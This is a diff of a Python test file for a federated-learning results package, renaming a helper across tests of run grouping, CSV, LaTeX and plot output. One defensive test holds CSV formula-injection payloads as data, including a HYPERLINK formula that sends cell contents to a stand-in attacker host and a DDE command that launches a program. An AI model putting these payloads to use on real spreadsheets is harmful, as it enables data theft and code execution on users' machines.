@@ -21,7 +21,7 @@ from flwr_splitmix.runs.reports.tables import as_csv, as_latex, as_markdown, tab
 from flwr_splitmix.runs.selection import select
 
 
-def made(home: Path, accuracies: list[float], kind: str = "central", **config: Any) -> Run:
+def finished_run(home: Path, accuracies: list[float], kind: str = "central", **config: Any) -> Run:
     run = Run.create({"strategy": "PSL", **config}, name="x", home=home)
     for number, accuracy in enumerate(accuracies, 1):
         run.append_round(
@@ -56,8 +56,11 @@ def test_keys_differ_where_the_runs_that_have_them_do() -> None:
 
 
 def test_runs_that_differ_in_seed_and_place_alone_are_one_group(tmp_path: Path) -> None:
-    seeds = [made(tmp_path, [a], seed=s, device=f"cuda:{s}") for s, a in enumerate((0.5, 0.6, 0.8))]
-    other = made(tmp_path, [0.9], strategy="SFL", seed=0, device="cpu")
+    seeds = [
+        finished_run(tmp_path, [a], seed=s, device=f"cuda:{s}")
+        for s, a in enumerate((0.5, 0.6, 0.8))
+    ]
+    other = finished_run(tmp_path, [0.9], strategy="SFL", seed=0, device="cpu")
     comparison = compare([*seeds, other])
     first, second = comparison.groups
     assert comparison.keys == ("strategy",)
@@ -72,7 +75,7 @@ def test_runs_that_differ_in_seed_and_place_alone_are_one_group(tmp_path: Path) 
 
 def test_runs_of_several_versions_are_noted(tmp_path: Path) -> None:
     """They are not averaged without a word."""
-    runs = [made(tmp_path, [0.5], seed=seed) for seed in range(4)]
+    runs = [finished_run(tmp_path, [0.5], seed=seed) for seed in range(4)]
     for run, version in zip(runs, ("0.1.0", "0.2.0", "0.2.0"), strict=False):
         versions = {"flwr-splitmix": version, "torch": "2.4.0", "flwr": version}
         run.write_summary({**(run.summary or {}), "versions": versions})
@@ -94,7 +97,7 @@ def test_an_epsilon_is_not_shown_below_its_bound(
     epsilons: list[float], shown: str, tmp_path: Path
 ) -> None:
     """One of 0.0042 is not 0.00, and one of 204.553 not 204.55."""
-    runs = [made(tmp_path, [0.5], seed=seed) for seed in range(len(epsilons))]
+    runs = [finished_run(tmp_path, [0.5], seed=seed) for seed in range(len(epsilons))]
     for run, epsilon in zip(runs, epsilons, strict=True):
         run.write_summary({**(run.summary or {}), "epsilon": epsilon})
     table = tabulate(compare(runs))
@@ -103,7 +106,7 @@ def test_an_epsilon_is_not_shown_below_its_bound(
 
 
 def test_kinds_of_accuracy_are_not_mixed_silently(tmp_path: Path) -> None:
-    runs = [made(tmp_path, [0.5], "central"), made(tmp_path, [0.6], "benchmark")]
+    runs = [finished_run(tmp_path, [0.5], "central"), finished_run(tmp_path, [0.6], "benchmark")]
     with pytest.raises(RunError, match=rf"{runs[0].id} has 'central' and {runs[1].id} has 'ben"):
         compare(runs)
     table = tabulate(compare(runs, mix_kinds=True))
@@ -112,7 +115,7 @@ def test_kinds_of_accuracy_are_not_mixed_silently(tmp_path: Path) -> None:
 
 
 def test_a_seed_that_occurs_twice_and_a_run_in_progress_are_said(tmp_path: Path) -> None:
-    runs = [made(tmp_path, [0.5], seed=0), made(tmp_path, [0.5, 0.6], seed=0)]
+    runs = [finished_run(tmp_path, [0.5], seed=0), finished_run(tmp_path, [0.5, 0.6], seed=0)]
     with runs[1].held():
         (runs[1].path / "summary.json").unlink()
         notes = " ".join(compare(runs).notes)
@@ -161,7 +164,7 @@ def test_every_format_has_the_figures_of_the_runs(toy_home: Path) -> None:
 def test_no_two_columns_of_a_csv_have_one_name(tmp_path: Path) -> None:
     """Readers would lose a key that differs if it had the name of the column beside it."""
     keys = ("evaluation", "runs", "accuracy_kind", "top1")
-    runs = [made(tmp_path, [0.5], **dict.fromkeys(keys, value)) for value in ("one", "two")]
+    runs = [finished_run(tmp_path, [0.5], **dict.fromkeys(keys, value)) for value in ("one", "two")]
     table = tabulate(compare(runs))
     header, *lines = csv.reader(io.StringIO(as_csv(table)))
     assert len(set(header)) == len(header)
@@ -174,7 +177,7 @@ def test_a_spreadsheet_executes_no_cell_of_a_csv(tmp_path: Path) -> None:
     """A stranger's run could name a data set so that opening the table sends figures away."""
     formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1"]
     names = [*formulas, "-0.5", "+1e3", "-inf", "fashion"]
-    runs = [made(tmp_path, [0.5], "=kind", **{"=key": name}) for name in names]
+    runs = [finished_run(tmp_path, [0.5], "=kind", **{"=key": name}) for name in names]
     header, *lines = csv.reader(io.StringIO(as_csv(tabulate(compare(runs)))))
     assert "'=key" in header
     shown = {line[header.index("'=key")] for line in lines}
@@ -187,7 +190,7 @@ def test_a_spreadsheet_executes_no_cell_of_a_csv(tmp_path: Path) -> None:
 
 
 def test_latex_has_no_character_with_a_meaning_of_its_own(tmp_path: Path) -> None:
-    runs = [made(tmp_path, [0.5], dataset=name) for name in ("a_b & 50%", "~{$#^\\}")]
+    runs = [finished_run(tmp_path, [0.5], dataset=name) for name in ("a_b & 50%", "~{$#^\\}")]
     latex = as_latex(tabulate(compare(runs)))
     assert r"a\_b \& 50\%" in latex
     assert r"\textasciitilde{}\{\$\#\textasciicircum{}\textbackslash{}\}" in latex
@@ -196,7 +199,7 @@ def test_latex_has_no_character_with_a_meaning_of_its_own(tmp_path: Path) -> Non
 def test_runs_of_other_clients_or_strategies_are_no_seeds_of_one(tmp_path: Path) -> None:
     """Runs of 2 and of 4 clients are not averaged, nor scripts' runs of several strategies."""
     of_python = Run.create({"seed": 3}, name="mine", home=tmp_path)
-    runs = [*(made(tmp_path, [0.5], seed=seed) for seed in range(3)), of_python]
+    runs = [*(finished_run(tmp_path, [0.5], seed=seed) for seed in range(3)), of_python]
     facts = [("PSL", 2), ("PSL", 4), ("PSL", 2), ("SFL", 2)]
     for run, (strategy, clients) in zip(runs, facts, strict=True):
         run.write_summary({"top1": 0.5, "strategy": strategy, "clients": clients})
@@ -210,7 +213,7 @@ def test_runs_of_other_clients_or_strategies_are_no_seeds_of_one(tmp_path: Path)
 def test_a_sample_of_the_clients_may_be_of_another_size(tmp_path: Path) -> None:
     """How many clients have ever trained depends on the draws then."""
     sampled: dict[str, Any] = {"fraction-train": 0.5}
-    runs = [made(tmp_path, [0.5], seed=seed, **sampled) for seed in (0, 1)]
+    runs = [finished_run(tmp_path, [0.5], seed=seed, **sampled) for seed in (0, 1)]
     for run, clients in zip(runs, (7, 8), strict=True):
         run.write_summary({"top1": 0.5, "strategy": "PSL", "clients": clients})
     assert len(compare(runs).groups) == 1
@@ -220,7 +223,7 @@ def test_a_sample_of_the_clients_may_be_of_another_size(tmp_path: Path) -> None:
 @pytest.mark.parametrize("name", ["_Mine", r"$\frac{1$", "costs 3 $ or 5 $"])
 def test_a_name_is_drawn_whatever_it_is(name: str, tmp_path: Path) -> None:
     """Matplotlib takes "_Mine" for one to hide, and what is between dollars for a formula."""
-    runs = [made(tmp_path, [0.5], strategy=name), made(tmp_path, [0.5])]
+    runs = [finished_run(tmp_path, [0.5], strategy=name), finished_run(tmp_path, [0.5])]
     figure = draw_curves(compare(runs), ["rounds"])
     figure.draw_without_rendering()
     shown = [text.get_text().replace(r"\$", "$").strip() for text in figure.legends[0].get_texts()]
@@ -229,7 +232,10 @@ def test_a_name_is_drawn_whatever_it_is(name: str, tmp_path: Path) -> None:
 
 
 def test_curves_are_means_over_seeds_at_what_was_sent_by_then(tmp_path: Path) -> None:
-    runs = [made(tmp_path, [0.1, 0.3], seed=0), made(tmp_path, [0.3, 0.5, 0.7], seed=1)]
+    runs = [
+        finished_run(tmp_path, [0.1, 0.3], seed=0),
+        finished_run(tmp_path, [0.3, 0.5, 0.7], seed=1),
+    ]
     (group,) = compare(runs).groups
     rounds, uplink, time = (curve_of(group, over) for over in ("rounds", "uplink", "time"))
     assert rounds.x == (1, 2)
@@ -252,7 +258,7 @@ def test_one_run_has_the_band_of_its_clients_if_it_knows_one(tmp_path: Path) -> 
 
 
 def test_lines_differ_without_colour(tmp_path: Path) -> None:
-    runs = [made(tmp_path, [0.1, 0.2], k=k) for k in range(2, 20)]
+    runs = [finished_run(tmp_path, [0.1, 0.2], k=k) for k in range(2, 20)]
     (axes,) = draw_curves(compare(runs), ["rounds"]).axes
     styles = {
         (str(line.get_linestyle()), line.get_marker(), str(getattr(line, "_dash_pattern")))  # noqa: B009
